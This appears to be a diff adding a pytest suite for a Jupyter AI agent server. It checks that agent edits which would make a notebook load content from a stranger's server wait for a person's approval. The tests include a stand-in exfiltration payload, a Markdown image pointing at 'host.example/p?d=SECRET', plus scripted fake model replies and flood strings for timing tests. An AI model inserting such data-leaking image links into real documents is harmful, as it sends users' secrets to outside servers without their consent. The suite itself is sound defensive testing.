@@ -1,0 +1,327 @@
+"""Edits that would make a page ask another server for something: a person decides, each time.
+
+`remote_content.json` has the attacks, by how they load, and what loads nothing. Each `HOST` in them
+is a stranger's server. `tests/ui/test_remote_content.py` watches what a browser does with them.
+"""
+
+from __future__ import annotations
+
+import json
+import time
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import nbformat
+import pytest
+from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook
+
+from jupyter_agent.testing import FakeAnthropic, calls, says
+from jupyter_agent.testing.script import FakeReply
+from tests.server.conftest import Call, ask
+
+CORPUS = json.loads((Path(__file__).parent / "remote_content.json").read_text(encoding="utf-8"))
+LOADS: dict[str, list[str]] = CORPUS["loads"]
+QUIET: list[str] = CORPUS["loads nothing"]
+HOST = "host.example"
+PATH = "n.ipynb"
+PICTURE = "![ ](http://host.example/p?d=SECRET)"
+ADDRESS = "http://host.example/p?d=SECRET"
+TRAIT = "allow_remote_content"
+
+
+@pytest.fixture
+def path(jp_root_dir: Path) -> Path:
+    return jp_root_dir / PATH
+
+
+@pytest.fixture
+def blank(path: Path) -> Path:
+    """A Markdown cell `m`, a raw cell `r` and a code cell `c` that loads something if retyped."""
+    cells = [
+        new_markdown_cell("words", id="m"),
+        nbformat.v4.new_raw_cell("words", id="r"),
+        new_code_cell(f"# {PICTURE}", id="c"),
+    ]
+    nbformat.write(new_notebook(cells=cells), path)
+    return path
+
+
+def sources(path: Path) -> list[str]:
+    return [cell.source for cell in nbformat.read(path, as_version=4).cells]
+
+
+async def use(call: Call, tool: str, *, mode: str = "auto", **input: Any) -> Any:
+    """A tool over REST, as a script or another agent uses it."""
+    body = {"notebook": PATH, "mode": mode, "input": input}
+    return (await call("POST", "tools", tool, body=body)).body
+
+
+def test_the_corpus_is_large() -> None:
+    assert sum(map(len, LOADS.values())) >= 200
+    assert len(QUIET) >= 70
+
+
+@pytest.mark.parametrize("group", LOADS)
+@pytest.mark.parametrize("type", ["markdown", "raw"])
+async def test_what_loads_something_is_not_done_without_a_person(
+    call: Call, blank: Path, group: str, type: str
+) -> None:
+    before = blank.read_bytes()
+    done = []
+    for text in LOADS[group]:
+        answer = await use(call, "create_cell", type=type, source=text.replace("HOST", HOST))
+        if answer.get("reason") != "needs_approval":
+            done.append(text)
+    assert done == []
+    assert blank.read_bytes() == before
+
+
+async def test_what_loads_nothing_is_done_at_once(call: Call, blank: Path) -> None:
+    refused = []
+    for text in QUIET:
+        source = text.replace("HOST", HOST)
+        answer = await use(call, "create_cell", mode="edit", type="markdown", source=source)
+        if answer["is_error"]:
+            refused.append((text, answer["text"]))
+    assert refused == []
+    assert len(sources(blank)) == 3 + len(QUIET)
+
+
+async def test_code_is_code_whatever_it_would_show_when_it_runs(call: Call, blank: Path) -> None:
+    answer = await use(call, "create_cell", mode="edit", source=f"%%markdown\n{PICTURE}")
+    assert not answer["is_error"], answer
+
+
+EDITS: dict[str, tuple[str, dict[str, Any]]] = {
+    "a new cell": ("create_cell", {"type": "markdown", "source": PICTURE}),
+    "a word": ("update_cell", {"cell_id": "m", "old_string": "words", "new_string": PICTURE}),
+    "a raw cell": ("update_cell", {"cell_id": "r", "old_string": "words", "new_string": PICTURE}),
+    "another type": ("update_cell", {"cell_id": "c", "type": "markdown"}),
+    "another type and text": (
+        "update_cell",
+        {"cell_id": "c", "type": "raw", "old_string": "# ", "new_string": ""},
+    ),
+}
+
+
+@pytest.mark.parametrize("edit", EDITS)
+@pytest.mark.parametrize("mode", ["read", "ask", "edit", "auto"])
+async def test_every_way_to_write_it_is_refused_with_the_address_and_the_trait(
+    call: Call, blank: Path, edit: str, mode: str
+) -> None:
+    tool, input = EDITS[edit]
+    answer = await use(call, tool, mode=mode, **input)
+    assert answer["is_error"]
+    if mode == "read":
+        assert answer["reason"] == "denied"
+    else:
+        assert answer["reason"] == "needs_approval"
+        assert ADDRESS in answer["text"]
+        assert TRAIT in answer["text"]
+        assert "allow`" not in answer["text"]  # that would not help
+    assert sources(blank) == ["words", "words", f"# {PICTURE}"]
+
+
+async def test_a_whole_rewrite_of_a_cell_that_was_read_is_asked_about_too(
+    call: Call, blank: Path
+) -> None:
+    await use(call, "read_cells", cell_ids=["m"])
+    answer = await use(call, "update_cell", cell_id="m", source=f"words\n\n{PICTURE}")
+    assert answer["reason"] == "needs_approval"
+
+
+async def test_what_two_edits_make_together_is_asked_about(call: Call, blank: Path) -> None:
+    half = {"cell_id": "m", "old_string": "words", "new_string": "! [ ](http://host.example/p)"}
+    assert not (await use(call, "update_cell", **half))["is_error"]
+    rest = {"cell_id": "m", "old_string": "! [", "new_string": "!["}
+    assert (await use(call, "update_cell", **rest))["reason"] == "needs_approval"
+
+
+async def test_neither_allow_nor_a_rule_of_the_caller_lets_it_pass(call: Call, blank: Path) -> None:
+    body = {"notebook": PATH, "mode": "auto", "allow": ["create_cell"]}
+    body["input"] = {"type": "markdown", "source": PICTURE}
+    assert (await call("POST", "tools", "create_cell", body=body)).body["is_error"]
+
+
+async def test_a_host_that_the_notebook_asks_already_is_no_question(call: Call, path: Path) -> None:
+    cells = [new_markdown_cell("![logo](https://host.example/logo.png)", id="m")]
+    cells.append(new_markdown_cell("[a link](http://linked.example/)", id="l"))
+    cells.append(new_code_cell("# ![](http://code.example/)", id="c"))
+    nbformat.write(new_notebook(cells=cells), path)
+    again = await use(call, "create_cell", type="markdown", source="<img src=//HOST.example/b>")
+    assert not again["is_error"], again
+    for host in ("linked", "code", "other.host", "host.example@evil"):
+        source = f"![](http://{host}.example/p)"
+        answer = await use(call, "create_cell", type="markdown", source=source)
+        assert answer["reason"] == "needs_approval", host
+    for tool, input in (
+        ("update_cell", {"cell_id": "m", "old_string": "logo]", "new_string": "our logo]"}),
+        ("move_cell", {"cell_id": "m", "after": "c"}),
+        ("delete_cell", {"cell_id": "m"}),
+    ):
+        assert not (await use(call, tool, mode="edit", **input))["is_error"], tool
+
+
+async def test_a_person_edits_what_they_like(call: Call, blank: Path) -> None:
+    body = {"source": PICTURE, "type": "markdown"}
+    assert (await call("POST", "notebooks", PATH, "cells", body=body)).status == 201
+    assert PICTURE in sources(blank)
+
+
+async def test_of_a_hidden_cell_nothing_is_told_by_the_question(call: Call, path: Path) -> None:
+    hidden = new_markdown_cell("secret", id="h", metadata={"tags": ["agent-hidden"]})
+    nbformat.write(new_notebook(cells=[hidden]), path)
+    told = {
+        (await use(call, "update_cell", cell_id="h", old_string=guess, new_string=PICTURE))["text"]
+        for guess in ("secret", "wrong")
+    }
+    assert len(told) == 1
+
+
+async def asked(call: Call, mode: str, **more: Any) -> Any:
+    """The turn's state after a question, with the approvals that wait."""
+    body = ask("Go.", mode=mode, stream=False, notebook=PATH, **more)
+    return (await call("POST", "chat", body=body)).body
+
+
+async def answered(call: Call, approval: dict[str, Any], **reply: Any) -> Any:
+    body = {"approvals": [{"id": approval["id"], "approved": True, **reply}], "wait": 60}
+    return (await call("POST", "chat", "talk", "approvals", body=body)).body
+
+
+WRITE = calls("create_cell", type="markdown", source=PICTURE)
+
+
+@pytest.mark.parametrize("mode", ["ask", "edit", "auto"])
+async def test_a_person_is_asked_in_every_mode_and_is_told_the_address(
+    call: Call, replies: list[FakeReply], blank: Path, mode: str
+) -> None:
+    replies += [[WRITE], [says("Added.")]]
+    waiting = await asked(call, mode)
+    (approval,) = waiting["approvals"]
+    assert approval["loads"] == [ADDRESS]
+    (notice,) = [
+        part["data"]
+        for part in waiting["message"]["parts"]
+        if part["type"] == "data-notice" and part["data"]["kind"] == "approval"
+    ]
+    assert ADDRESS in notice["text"]
+    assert notice["approval"]["loads"] == [ADDRESS]
+    assert PICTURE not in sources(blank)
+    assert (await answered(call, approval))["state"] == "done"
+    assert PICTURE in sources(blank)
+
+
+@pytest.mark.parametrize("remember", ["conversation", "turn"])
+async def test_what_is_allowed_for_longer_never_covers_it(
+    call: Call, replies: list[FakeReply], blank: Path, remember: str
+) -> None:
+    sources_asked = ["plain", "plain", PICTURE, "<img src=//other.example/x>"]
+    replies += [[calls("create_cell", type="markdown", source=each)] for each in sources_asked]
+    replies.append([says("As you like.")])
+    (first,) = (await asked(call, "ask"))["approvals"]
+    assert "loads" not in first
+    (approval,) = (await answered(call, first, remember=remember))["approvals"]
+    assert approval["loads"] == [ADDRESS]
+    assert sources(blank).count("plain") == 2
+    (other,) = (await answered(call, approval, remember=remember))["approvals"]
+    assert other["loads"] == ["//other.example/x"]
+    await answered(call, other, approved=False)
+    assert sources(blank)[3:] == ["plain", "plain", PICTURE]
+
+
+async def test_two_edits_of_a_step_that_load_are_each_done_as_allowed(
+    call: Call, replies: list[FakeReply], blank: Path
+) -> None:
+    change = calls("update_cell", cell_id="m", old_string="words", new_string=PICTURE)
+    more = calls("update_cell", cell_id="m", old_string="![ ]", new_string="![the picture]")
+    replies += [[change, more, WRITE], [says("Done.")]]
+    approvals = (await asked(call, "ask"))["approvals"]
+    assert [approval.get("loads") for approval in approvals] == [
+        [ADDRESS],
+        None,
+        None,
+    ]  # known once the first is done
+    body = {"approvals": [{"id": each["id"], "approved": True} for each in approvals], "wait": 60}
+    await call("POST", "chat", "talk", "approvals", body=body)
+    assert sources(blank)[0] == PICTURE.replace("![ ]", "![the picture]")
+    assert PICTURE in sources(blank)
+
+
+async def test_an_edit_that_loads_only_after_another_of_its_step_is_not_done_unasked(
+    call: Call, replies: list[FakeReply], fake: FakeAnthropic, blank: Path
+) -> None:
+    half = calls("update_cell", cell_id="m", old_string="words", new_string="! [](//host.example)")
+    rest = calls("update_cell", cell_id="m", old_string="! [", new_string="![")
+    replies += [[half, rest], [rest], [says("As you like.")]]
+    (approval,) = (await asked(call, "edit"))["approvals"]
+    assert approval["loads"] == ["//host.example"]
+    assert sources(blank)[0] == "! [](//host.example)"
+    assert "Something else is there by now" in str(fake.requests[1]["messages"][-1])
+    await answered(call, approval, approved=False)
+
+
+class TestUnattended:
+    """Where a question waits a second."""
+
+    @pytest.fixture
+    def jp_server_config(self, jp_server_config: dict[str, Any]) -> dict[str, Any]:
+        jp_server_config["JupyterAgent"]["approval_seconds"] = 1
+        return jp_server_config
+
+    async def test_where_nobody_answers_the_model_learns_who_could(
+        self,
+        call: Call,
+        replies: list[FakeReply],
+        fake: FakeAnthropic,
+        blank: Path,
+    ) -> None:
+        replies += [[WRITE], [says("Nobody is there.")]]
+        body = ask("Go.", mode="auto", stream=True, notebook=PATH)
+        await call("POST", "chat", body=body)
+        assert TRAIT in str(fake.requests[-1]["messages"][-1])
+        assert PICTURE not in sources(blank)
+
+
+class TestAllowed:
+    """Where the administrator set `allow_remote_content`."""
+
+    @pytest.fixture
+    def jp_server_config(self, jp_server_config: dict[str, Any]) -> dict[str, Any]:
+        jp_server_config["JupyterAgent"][TRAIT] = True
+        return jp_server_config
+
+    async def test_mode_auto_does_it_and_the_other_modes_ask(self, call: Call, blank: Path) -> None:
+        for mode in ("ask", "edit"):
+            answer = await use(call, "create_cell", mode=mode, type="markdown", source=PICTURE)
+            assert answer["reason"] == "needs_approval"
+        answer = await use(call, "create_cell", type="markdown", source=PICTURE)
+        assert not answer["is_error"]
+        assert PICTURE in sources(blank)
+
+
+def floods() -> Iterator[str]:
+    """Texts on which a careless search takes minutes."""
+    pieces = [
+        "<a ",
+        "![",
+        "](",
+        "[a![b](c)",
+        "![a]",
+        "<a x='",
+        "\\unicode",
+        "```mermaid\n",
+        "<style",
+    ]
+    pieces += ["<style>/*", "data:", "<b style=data:", "&#", "> ", "\n \n", "<script", "\\style"]
+    for piece in pieces:
+        yield piece * (300_000 // len(piece))
+
+
+async def test_no_text_holds_the_server_up(call: Call, blank: Path) -> None:
+    for text in floods():
+        began = time.monotonic()
+        await use(call, "create_cell", mode="read", type="markdown", source=text)
+        await use(call, "create_cell", type="markdown", source=f"{text}\n\n{PICTURE}")
+        assert time.monotonic() - began < 10, text[:20]
